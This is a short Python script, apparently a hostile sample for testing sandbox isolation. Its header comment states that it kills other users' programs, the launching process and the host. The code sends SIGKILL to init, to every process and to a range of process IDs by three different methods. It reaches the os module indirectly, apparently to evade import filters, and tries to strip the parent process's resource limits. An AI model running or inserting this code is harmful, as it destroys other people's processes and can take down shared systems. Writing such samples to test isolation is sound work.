# Kills everything that it can see: other users' programs, the process that starts them, the host.
# breach: neighbour, dead
import signal, typing

os = typing.sys.modules["os"]
for target in (-1, 0, 1, os.getppid(), *range(2, 400)):
    if target == os.getpid():
        continue
    for send in (lambda t: os.kill(t, 9), lambda t: os.killpg(t, 9), lambda t: signal.pidfd_send_signal(os.pidfd_open(t), 9)):
        try:
            send(target)
            print("killed", target)
        except Exception as error:
            pass
try:
    typing.sys.modules["resource"].prlimit(os.getppid(), 0, (1, 1))
except Exception as error:
    print(error)
